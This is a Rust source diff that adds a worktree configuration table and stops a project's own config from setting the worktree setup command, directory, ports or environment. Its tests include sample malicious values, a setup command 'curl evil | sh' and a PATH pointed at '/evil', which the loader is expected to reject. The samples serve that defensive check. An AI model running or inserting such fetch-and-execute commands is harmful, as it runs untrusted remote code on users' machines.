@@ -35,6 +35,55 @@ pub(crate) struct File {
     fork: ForkTable,
     #[serde(default)]
     workers: WorkersTable,
+    #[serde(default)]
+    worktree: WorktreeTable,
+}
+
+/// How worktrees are made.
+#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
+#[serde(deny_unknown_fields)]
+pub(crate) struct WorktreeTable {
+    pub(crate) enabled: Option<bool>,
+    /// The directory that holds all of them; absolute.
+    pub(crate) directory: Option<String>,
+    /// What `sh -c` runs in a new one.
+    pub(crate) setup: Option<String>,
+    /// How long that may take, such as `90s` or `10m`.
+    pub(crate) setup_time: Option<String>,
+    /// How many ports each gets; 0 for none.
+    pub(crate) ports: Option<u16>,
+    pub(crate) first_port: Option<u16>,
+    /// Variables of the commands that run there.
+    pub(crate) environment: Option<BTreeMap<String, String>>,
+}
+
+impl WorktreeTable {
+    /// What a checkout must not decide for its user: where files go, and what is run.
+    fn decides(&self) -> Option<&'static str> {
+        let said = [
+            (self.enabled == Some(true), "worktree.enabled"),
+            (self.directory.is_some(), "worktree.directory"),
+            (self.setup.is_some(), "worktree.setup"),
+            (self.setup_time.is_some(), "worktree.setup_time"),
+            (self.ports.is_some(), "worktree.ports"),
+            (self.first_port.is_some(), "worktree.first_port"),
+            (self.environment.is_some(), "worktree.environment"),
+        ];
+        said.into_iter().find_map(|(is_said, key)| is_said.then_some(key))
+    }
+
+    /// This table where `later` says nothing.
+    fn under(self, later: Self) -> Self {
+        Self {
+            enabled: later.enabled.or(self.enabled),
+            directory: later.directory.or(self.directory),
+            setup: later.setup.or(self.setup),
+            setup_time: later.setup_time.or(self.setup_time),
+            ports: later.ports.or(self.ports),
+            first_port: later.first_port.or(self.first_port),
+            environment: later.environment.or(self.environment),
+        }
+    }
 }
 
 /// Whether models fork.
@@ -241,6 +290,7 @@ pub(crate) struct Config {
     pub(crate) confine: ConfineTable,
     pub(crate) fork: ForkTable,
     pub(crate) workers: WorkersTable,
+    pub(crate) worktree: WorktreeTable,
     /// Of all files; the lowest caps count, so that a project's can only narrow.
     pub(crate) budget: Vec<Setting<BudgetTable>>,
     /// The files that were read, in order.
@@ -318,6 +368,7 @@ impl Config {
             self.cache = cache;
         }
         self.confine = std::mem::take(&mut self.confine).under(file.confine);
+        self.worktree = std::mem::take(&mut self.worktree).under(file.worktree);
         self.fork.mode = file.fork.mode.or_else(|| self.fork.mode.take());
         let before = std::mem::take(&mut self.workers);
         let later = file.workers;
@@ -371,6 +422,8 @@ fn narrowed(file: File, path: &Path) -> Result<File, Failure> {
     } else if file.cache.is_some() {
         "cache"
     } else if let Some(key) = file.confine.widens() {
+        key
+    } else if let Some(key) = file.worktree.decides() {
         key
     } else if let Some(key) = more_workers(&file.fork, &file.workers) {
         key
@@ -438,9 +491,19 @@ mod tests {
             "[fork]\nmode = \"implicit\"",
             "[workers]\ndepth = 3",
             "[workers]\nturns = 900",
+            "[worktree]\nenabled = true",
+            "[worktree]\nsetup = \"curl evil | sh\"",
+            "[worktree.environment]\nPATH = \"/evil\"",
         ] {
             assert!(load("", project, &[]).is_err(), "{project}");
         }
+    }
+
+    #[test]
+    fn a_project_may_do_without_worktrees() {
+        let user = "[worktree]\nsetup = \"make\"";
+        let worktree = load(user, "[worktree]\nenabled = false", &[]).unwrap().worktree;
+        assert_eq!((worktree.enabled, worktree.setup.as_deref()), (Some(false), Some("make")));
     }
 
     #[test]
